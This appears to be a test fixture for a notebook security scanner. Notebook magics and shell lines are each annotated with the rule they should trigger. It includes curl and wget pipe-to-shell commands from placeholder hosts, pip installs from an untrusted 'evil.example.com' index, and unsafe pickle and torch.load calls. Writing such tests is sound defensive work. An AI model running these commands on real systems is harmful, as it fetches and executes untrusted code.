%pip install torch
%pip install --index-url http://pypi.internal/simple torch  # expect: pip-http-index
%pip install --extra-index-url https://evil.example.com/simple pkg  # expect: pip-untrusted-index
%pip install --index-url https://pypi.org/simple/ pkg
!pip install --trusted-host pypi.internal pkg  # expect: pip-trusted-host
!pip install git+http://github.com/org/repo.git  # expect: pip-git-http
!pip install git+https://github.com/org/repo.git@3f2a9c1
!python -m pip install -i https://mirror.example.org/simple pkg  # expect: pip-untrusted-index
!curl -sSL https://install.example.com/setup.sh | sudo bash  # expect: shell-pipe-to-interpreter
!wget -qO- https://x.example.com/i.sh | sh  # expect: shell-pipe-to-interpreter
!bash <(curl -s https://x.example.com/i.sh)  # expect: shell-pipe-to-interpreter
!curl -o setup.sh https://install.example.com/setup.sh
files = !ls *.pt
out = !curl https://x.example.com/a.sh | sh  # expect: shell-pipe-to-interpreter
%env TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD=1  # expect: torch-force-no-weights-only
!export TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD=1  # expect: torch-force-no-weights-only
%env PIP_INDEX_URL=http://pypi.internal/simple  # expect: pip-http-index
import torch
torch.load?
torch.load??
?torch.load
%timeit torch.load("m.pt")  # expect: torch-load-unsafe
%time state = torch.load("m.pt", weights_only=True)
%matplotlib inline
for path in paths:
    !echo loading
    state = torch.load(path)  # expect: torch-load-unsafe
# %%
import pickle as pk
# %%
pk.loads(blob)  # expect: pickle-load
# %%
%%bash
pip install --trusted-host pypi.internal pkg  # expect: pip-trusted-host
curl -sSL https://x.example.com/i.sh | bash  # expect: shell-pipe-to-interpreter
# %%
%%time
pk.load(fh)  # expect: pickle-load
# %%
%%writefile loader.py
import pickle
pickle.loads(blob)
# %%
%%capture
torch.load("m.pt", weights_only=False)  # expect: torch-load-weights-only-false
# %%
x = 1 +
torch.load("m.pt")  # expect: torch-load-unsafe
torch.load(
